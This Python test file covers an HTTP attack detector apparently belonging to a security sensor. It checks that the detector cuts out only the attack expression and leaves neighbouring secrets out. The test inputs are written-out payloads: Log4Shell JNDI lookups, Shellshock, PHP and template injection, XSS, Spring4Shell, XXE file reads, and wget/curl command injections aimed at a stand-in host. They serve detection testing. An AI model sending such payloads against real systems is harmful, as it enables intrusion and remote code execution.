"""sensor.http.attacks: the expression that attacks, and none of the secrets beside it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensor.http.attacks import MAX_TEXT, find_attack, find_body_attack


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (b"a ${jndi:ldap://e.example/${env:USER}} Firefox", b"${jndi:ldap://e.example/${env:USER}}"),
        (b"%2524%257Bjndi:dns://e%257D/SECRET", b"%2524%257Bjndi:dns://e%257D"),
        (b"/?a=${x&password=SECRET&b=}", b"${x"),
        (b"/?a=${x&password=SECRET", b"${x"),
        (b"${jndi:ldap://e.example/a SECRET", b"${jndi:ldap://e.example/a"),
        (b"\\u0024\\u007bjndi:x\\u007d SECRET", b"\\u0024\\u007bjndi:x\\u007d"),
        (b"&#36;&#123;jndi:x&#125; SECRET", b"&#36;&#123;jndi:x&#125;"),
        (b"\\u0024 SECRET {x}", b"\\u0024"),
        (b"%{(#a='b').(#c=@d)}SECRET", b"%{(#a='b').(#c=@d)}"),
        (b"{{7*7}}SECRET", b"{{7*7}}"),
        (b"() { :;}; SECRET", b"() { :;}"),
        (b"<?php system('id'); SECRET", b"<?php system('id')"),
        (b"<?= 1 ?>SECRET", b"<?= 1 ?>"),
        (b"/%3Cscript%3Ealert(1)%3C/script%3ESECRET", b"<script>alert(1)</script>"),
        (b"<script>alert(1)&SECRET", b"<script>"),
        (b"T(java.lang.Runtime).getRuntime().exec('SECRET')", b"T(java.lang.Runtime).getRuntime().exec("),
        (b"/?class.module.classLoader.a=SECRET", b"class.module.classLoader.a"),
        (b"$(curl e.example)SECRET", b"$(curl e.example)"),
        (b"$(id).show(SECRET)", b"$(id)."),
        (b"`id`SECRET", b"`id`"),
        (b"<!DOCTYPE a [SECRET", b"<!DOCTYPE a"),
        (b"$100 {a}", None),
        (b"${" + b"a" * 5000, b"${" + b"a" * (MAX_TEXT - 2)),
    ],
)
def test_an_expression_ends_where_it_does(text: bytes, told: bytes | None) -> None:
    assert find_attack(text, False) == told


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (b"sid=SECRET1; x=${jndi:ldap://e.example/a}; y=SECRET2", b"${jndi:ldap://e.example/a}"),
        (b"x=${; sid=SECRET; y=}", b"${"),
        (b"x=${jndi:ldap://e.example/a,SECRET}", b"${jndi:ldap://e.example/a"),
        (b"() { SECRET; }; /bin/id", b"() {"),
        (b"<script>alert(1)</script>SECRET", b"<script"),
        (b"<?php SECRET", b"<?php"),
        (b"$(wget http://SECRET)", b"$(wget "),
        (b"`id`SECRET", b"`id`"),
    ],
)
def test_of_what_is_secret_only_what_makes_it_an_attack(text: bytes, told: bytes) -> None:
    assert find_attack(text, True) == told


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (b"cmd=;wget http://e.example/x;&password=SECRET", b";wget http://e.example/x"),
        (b"cmd=;wget http://e.example/x&password=SECRET", b";wget http://e.example/x"),
        (b'{"a":"|curl -s http://e.example/x", "b":"SECRET"}', b"|curl -s http://e.example/x"),
        (b"a=`busybox wget http://e.example/x SECRET", b"`busybox wget http://e.example/x"),
        (b"a=%3Bwget%20http://e.example/x%26b=SECRET", b";wget http://e.example/x"),
        (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>SECRET</a>', b'<!ENTITY b SYSTEM "file:///x">'),
        (b"<!ENTITY % b PUBLIC 'p' 'http://e.example/x' >SECRET", b"<!ENTITY % b PUBLIC 'p' 'http://e.example/x' >"),
        (b'<!ENTITY b "SECRET">', b"<!ENTITY b"),
        (b"class.module.classLoader.a=SECRET", b"class.module.classLoader.a"),
        (b"a=<?php echo 1;&b=SECRET", b"<?php echo 1"),
        (b"java.lang.Runtime SECRET", b"java.lang.Runtime"),
        (b'{"a":{"b":{{}}}}', None),
    ],
)
def test_in_a_body(text: bytes, told: bytes | None) -> None:
    assert find_body_attack(text) == told


PARTS = st.lists(
    st.sampled_from(
        [
            b"${",
            b"}",
            b"{{",
            b"() {",
            b"<?php ",
            b"<script",
            b"<!entity ",
            b"$(a",
            b"`a",
            b";wget ",
            b"&",
            b"%7b",
            b" x",
        ]
    ),
    max_size=40,
)


@given(PARTS, st.binary(max_size=20), st.booleans())
def test_any_bytes(parts: list[bytes], more: bytes, secret: bool) -> None:
    text = b"".join(parts) + more
    for told in (find_attack(text, secret), find_body_attack(text)):
        assert told is None or 0 < len(told) <= MAX_TEXT + 10
